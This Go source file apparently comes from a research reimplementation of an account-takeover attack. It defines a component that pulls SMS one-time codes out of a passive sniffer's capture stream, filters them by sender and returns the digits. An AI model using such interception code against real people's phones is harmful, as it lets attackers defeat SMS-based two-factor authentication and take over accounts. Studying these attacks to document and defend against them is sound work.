package attack

import (
	"context"
	"fmt"
	"time"

	"github.com/actfort/actfort/internal/email"
	"github.com/actfort/actfort/internal/sniffer"
)

// SnifferInterceptor obtains SMS one-time codes out of band — the
// attack's primary capability — from a passive sniffer's capture
// stream (§V.A.2, Fig 6). The victim also receives each code: passive
// interception is observable.
type SnifferInterceptor struct {
	Sniffer *sniffer.Sniffer
	cursor  int
}

// InterceptCode blocks until an SMS from originator that carries an
// OTP arrives, and returns the extracted digits. Each call consumes
// one message: successive resets return successive codes.
func (s *SnifferInterceptor) InterceptCode(ctx context.Context, originator string) (string, error) {
	for {
		caps := s.Sniffer.Captures()
		for ; s.cursor < len(caps); s.cursor++ {
			c := caps[s.cursor]
			if c.Originator != originator {
				continue
			}
			if code, ok := email.ExtractCode(c.Text); ok {
				s.cursor++
				return code, nil
			}
		}
		select {
		case <-ctx.Done():
			return "", fmt.Errorf("attack: sniffing for %q: %w", originator, ctx.Err())
		case <-time.After(time.Millisecond):
		}
	}
}
